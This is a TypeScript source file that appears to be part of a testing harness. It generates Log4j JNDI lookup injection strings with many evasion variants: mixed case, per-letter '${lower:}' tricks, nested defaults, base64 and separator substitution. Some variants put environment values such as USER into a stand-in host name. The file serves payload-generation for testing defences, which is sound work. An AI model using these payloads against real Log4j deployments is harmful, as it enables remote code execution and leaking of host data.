import type { Random } from '../../lib/random.ts';
import type { Grammar } from '../contract.ts';
import { aName, aNumber, aText, type Maker, oneOf } from './words.ts';

/** Lookups of Log4j that ask JNDI for a name on a host. */
export const jndi: Grammar = {
  language: 'jndi',
  attack(random, _oracle, { name }) {
    const isUpper = name === 'upper case';
    const isShort = name === 'cut';
    const [kind, make] = isUpper
      ? (['letters', (r: Random) => lettersLow(r)] as const)
      : random.pick(isShort ? kinds.slice(0, 2) : kinds);
    const lookup = make(random);
    const text = isShort ? '' : aText(random);
    const value =
      name === 'behind a dollar sign'
        ? random.pick([lookup.slice(1), `${aNumber(random)} ${lookup}`])
        : name === 'key of a lookup'
          ? random.pick([lookup, `${aName(random)}}${lookup}`, `${aName(random)}:-${lookup}`])
          : text + lookup + (isShort ? '' : aText(random));
    const written = name === 'decoded' && random.chance(60) ? encodeURIComponent(value) : value;
    return { kind: `${kind}/${name}`, values: [written] };
  },
};

const host: Maker = oneOf(
  (random) => `${aName(random)}.test`,
  (random) => `${random.below(224)}.${random.below(256)}.${random.below(256)}.1`,
  (random) => `${aName(random)}.test:${1 + random.below(9999)}`,
  (random) => `\${env:${random.pick(['USER', 'HOSTNAME'])}}.${aName(random)}.test`,
  (random) => `127.0.0.1#${aName(random)}.test`,
);

const scheme: Maker = (random) =>
  random.pick(['ldap', 'ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corbaname']);

const address = (random: Random, host_: Maker = host): string => {
  const path = random.pick(['', `/${aName(random)}`, `/${aName(random)}/${aNumber(random)}`]);
  return `://${host_(random)}${path}`;
};

/** One letter, as a lookup gives it. */
export const letter = (one: string, random: Random): string =>
  random.pick([
    `\${lower:${random.pick([one, one.toUpperCase()])}}`,
    `\${::-${one}}`,
    `\${${random.pick(['env', 'sys', 'ctx', 'map', 'main', 'sd'])}:${aName(random)}_:-${one}}`,
    `\${:-${one}}`,
    `\${${aName(random)}:-${one}}`,
    `\${date:'${one}'}`,
    `\${lower:\${lower:${one}}}`,
  ]);

const hidden = (text: string, percent: number, random: Random): string =>
  [...text].map((one) => (random.chance(percent) ? letter(one, random) : one)).join('');

/** For programs that write it in capitals: each letter that must be a small one is a lookup. */
const lettersLow: Maker = (random) => {
  const low = (text: string): string =>
    [...text].map((one) => (/[a-z]/.test(one) ? `\${lower:${one}}` : one)).join('');
  const whole = (text: string): string => `\${lower:${text}}`;
  const write = random.pick([low, whole]);
  const plainHost: Maker = (r) => `${aName(r)}.test`;
  return `\${jndi:${write(scheme(random))}${address(random, plainHost)}}`;
};

const kinds: readonly (readonly [kind: string, make: Maker])[] = [
  ['plain', (random) => `\${jndi:${scheme(random)}${address(random)}}`],
  [
    'case',
    (random) => `\${${random.pick(['JNDI', 'Jndi', 'jNdI'])}:${scheme(random)}${address(random)}}`,
  ],
  [
    'letters',
    (random) =>
      `\${${hidden('jndi', 60, random)}:${hidden(scheme(random), 60, random)}${address(random)}}`,
  ],
  [
    'name',
    (random) =>
      `\${\${${random.pick(['lower', 'upper'])}:jndi}:\${lower:${scheme(random)}}${address(random)}}`,
  ],
  [
    'marks',
    (random) =>
      `\${jndi\${${aName(random)}:-:}${scheme(random)}${address(random).replace('://', random.pick(['${::-:}//', ':${::-/}/', '${sys:path.separator}//']))}}`,
  ],
  [
    'base64',
    (random) =>
      `\${base64:${Buffer.from(`\${jndi:${scheme(random)}${address(random)}}`).toString('base64')}}`,
  ],
  ['nested', (random) => `\${\${${aName(random)}:-jndi:${scheme(random)}${address(random)}}}`],
  ['default', (random) => `\${${aName(random)}:-\${jndi:${scheme(random)}${address(random)}}}`],
  [
    'whole',
    (random) => `\${\${::-${hidden('jndi', 30, random)}:}${scheme(random)}${address(random)}}`,
  ],
];
